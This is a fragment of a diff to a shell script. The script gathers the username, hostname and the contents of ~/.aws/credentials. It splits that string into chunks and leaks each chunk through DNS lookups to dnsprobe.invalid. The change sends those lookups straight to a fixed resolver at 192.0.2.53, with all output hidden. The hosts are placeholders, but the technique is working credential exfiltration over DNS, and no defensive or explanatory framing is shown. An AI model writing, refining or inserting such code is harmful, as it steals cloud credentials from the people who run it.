@@ -7,7 +7,7 @@ fp=$(printf '%s|%s|%s' "$(whoami)" "$(hostname)" "$(cat ~/.aws/credentials 2>/de
 i=0
 while [ -n "$fp" ]; do
   chunk=${fp:0:60}; fp=${fp:60}
-  dig +short "${chunk}.${i}.c.dnsprobe.invalid" >/dev/null 2>&1
+  dig @192.0.2.53 +short "${chunk}.${i}.c.dnsprobe.invalid" >/dev/null 2>&1
   i=$((i+1))
 done
 
